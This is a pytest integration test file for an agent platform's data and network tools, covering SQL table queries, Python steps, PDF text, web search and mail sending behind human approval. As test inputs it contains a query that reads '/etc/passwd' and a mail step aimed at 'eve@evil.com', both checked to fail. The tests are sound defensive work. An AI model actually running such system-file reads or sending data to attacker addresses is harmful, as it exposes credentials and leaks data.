"""Data tools through the whole stack: fixed plans by REST, done by real workers."""

from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from rest_framework.test import APIClient

from agentsys.infrastructure.processes import wait_until
from agentsys.runs import approvals
from agentsys.runs.models import Run
from tests.support.smtp import Smtp
from tests.support.web import Web, answer
from tests.tools.builtin.test_pdf import pdf
from tests.workers.conftest import ended

pytestmark = [pytest.mark.processes, pytest.mark.usefixtures("ring")]


WRITE = """
lines = ['region,total'] + [f"{row['region']},{row['total']}" for row in rows]
write_file('totals.csv', '\\n'.join(lines))
"""


def test_tables_are_queried_and_a_query_that_fails_is_its_steps(api: APIClient, posted: Any, start: Any) -> None:
    start("compute", slots=2)
    sales = "region,amount\nnorth,10\nsouth,2\nnorth,5\n"
    steps = [
        {
            "key": "bad",
            "tool": "table.query",
            "arguments": {"sql": "FROM read_text('/etc/passwd')"},
            "on_error": "continue",
        },
        {
            "key": "sum",
            "tool": "table.query",
            "arguments": {"sql": "SELECT region, sum(amount)::INT AS total FROM sales GROUP BY ALL ORDER BY 1"},
        },
        {
            "key": "write",
            "tool": "python.run",
            "arguments": {
                "code": WRITE,
                "inputs": {"rows": "${sum.rows}"},
            },
        },
        {
            "key": "again",
            "tool": "table.query",
            "arguments": {"sql": "SELECT max(total) AS most FROM totals"},
            "depends_on": ["write"],
        },
    ]

    run = ended(posted(*steps, files={"sales.csv": sales}), timeout_s=30)

    outputs = {step.key: step.output for step in run.steps.all()}
    assert run.status == "succeeded", run.error
    assert outputs["again"]["rows"] == [{"most": 15}]
    assert run.steps.get(key="bad").error["code"] == "tool_failed"
    assert "root:" not in str(run.steps.get(key="bad").error)
    listed = {tool["name"]: tool for tool in api.get("/api/v1/tools").json()["results"]}
    assert {listed[name]["effect"] for name in ("table.query", "pdf.text", "python.run", "shell.run")} == {"pure"}


def test_a_pdf_that_came_with_the_run_is_read(api: APIClient, agent: Any, start: Any) -> None:
    start("compute", slots=2)
    plan = '{"steps": [{"key": "a", "tool": "pdf.text", "arguments": {"name": "r.pdf"}}]}'
    sent = {"agent": "assistant", "plan": plan, "files": SimpleUploadedFile("r.pdf", pdf("one", "two"))}

    accepted = api.post("/api/v1/runs", sent, format="multipart")

    assert accepted.status_code == 202, accepted.json()
    run = ended(Run.objects.get(pk=accepted.json()["id"]))
    assert (run.status, run.result["a"]["text"]) == ("succeeded", "one\n\f\ntwo")


def test_the_web_is_searched_and_a_mail_is_sent_once(posted: Any, start: Any) -> None:
    hits = b'{"results": [{"title": "T", "url": "https://example.com/", "content": "C"}]}'
    with Web(pages={"/search": answer(hits, content_type="application/json")}) as engine, Smtp() as server:
        start(
            "network",
            AGENTSYS_HTTP_ALLOW=engine.address,
            AGENTSYS_SEARCH_URL=engine.url("/"),
            AGENTSYS_SMTP_URL=f"smtp://127.0.0.1:{server.port}",
            AGENTSYS_MAIL_FROM="agents@example.org",
            AGENTSYS_MAIL_ALLOW="@example.org,ada@example.com",
        )
        mail = {
            "to": ["ada@example.com"],
            "subject": "Found: ${find.results[0].title}",
            "text": "${find.results[0].url}",
        }
        run = posted(
            {"key": "find", "tool": "web.search", "arguments": {"query": "durable"}},
            {"key": "tell", "tool": "mail.send", "arguments": mail},
            {"key": "no", "tool": "mail.send", "arguments": mail | {"to": ["eve@evil.com"]}, "on_error": "continue"},
        )
        assert wait_until(lambda: run.approvals.filter(decision="").count() == 2, timeout_s=20)
        assert server.mails == []
        for asked in run.approvals.all():  # what the web has said goes into no mail unasked
            assert asked.tainted == {"subject": ["web"], "text": ["web"]}
            approvals.approve(asked, user=None)
        run = ended(run)

    assert run.status == "succeeded", run.error
    assert len(server.mails) == 1
    assert b"https://example.com/" in server.mails[0]
    assert run.steps.get(key="no").error["code"] == "recipient_denied"


def test_a_mail_that_nobody_saw_the_end_of_waits_for_a_person(posted: Any, start: Any) -> None:
    with Smtp(answers={".": None}) as server:
        where = f"smtp://127.0.0.1:{server.port}"
        start(
            "network", AGENTSYS_SMTP_URL=where, AGENTSYS_MAIL_FROM="a@example.org", AGENTSYS_MAIL_ALLOW="@example.org"
        )
        mail = {"to": ["b@example.org"], "subject": "s", "text": "t"}
        run = posted({"key": "a", "tool": "mail.send", "arguments": mail})

        def waits() -> bool:
            run.refresh_from_db()
            return run.status == "waiting"

        assert wait_until(waits, timeout_s=15)

    assert (run.reason, len(server.mails), run.steps.get().attempt) == ("outcome_unknown", 1, 1)
